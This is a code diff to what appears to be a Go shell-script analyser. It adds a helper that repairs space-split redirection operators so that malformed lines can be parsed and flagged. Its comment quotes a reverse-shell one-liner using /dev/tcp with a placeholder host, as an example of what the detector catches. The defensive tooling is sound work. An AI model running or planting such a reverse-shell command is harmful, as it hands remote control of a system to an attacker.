@@ -149,7 +149,13 @@ func (a *analysis) shellText(code []byte, fds fdset) {
 	for _, ll := range logicalLines(code) {
 		f, err := p.Parse(bytes.NewReader(ll.text), "")
 		if err != nil {
-			continue
+			fixed := splitDupRepaired(ll.text)
+			if fixed == nil {
+				continue
+			}
+			if f, err = p.Parse(bytes.NewReader(fixed), ""); err != nil {
+				continue
+			}
 		}
 		if top {
 			a.fileLine = a.lineBase + ll.line
@@ -172,13 +178,48 @@ func (a *analysis) shellLines(lines []logicalLine) {
 		f, err := p.Parse(bytes.NewReader(ll.text), "")
 		if err != nil {
 			if f = parseFromCommand(p, ll.text); f == nil {
-				continue
+				fixed := splitDupRepaired(ll.text)
+				if fixed == nil {
+					continue
+				}
+				if f, err = p.Parse(bytes.NewReader(fixed), ""); err != nil {
+					continue
+				}
 			}
 		}
 		a.fileLine = a.lineBase + ll.line
 		a.src, a.pipeline = ll.text, nil
 		a.stmts(f.Stmts, fdset{})
 	}
+}
+
+// splitDupRepaired returns a copy of line with each redirection operator split by blanks
+// joined again ("bash -i > & /dev/tcp/h/p 0>&1", "0< &3"; the blanks go after it, so that
+// the copy's offsets are the line's and evidence quotes the line as written), or nil when it
+// has none. Bash rejects the split form, so the line never ran as written; but it says what
+// its writer meant as plainly as the working one, and a reverse shell someone tried to plant
+// is evidence all the same.
+func splitDupRepaired(line []byte) []byte {
+	var out []byte
+	for i := 0; i+2 < len(line); i++ {
+		c := line[i]
+		if c != '>' && c != '<' || line[i+1] != ' ' && line[i+1] != '\t' {
+			continue
+		}
+		j := i + 1
+		for j < len(line) && (line[j] == ' ' || line[j] == '\t') {
+			j++
+		}
+		if j < len(line) && line[j] == '&' && (j+1 == len(line) || line[j+1] != '&') {
+			if out == nil {
+				out = bytes.Clone(line)
+			}
+			copy(out[i+2:j+1], line[i+1:j]) // the blanks, after the &
+			out[i+1] = '&'
+			i = j
+		}
+	}
+	return out
 }
 
 type logicalLine struct {
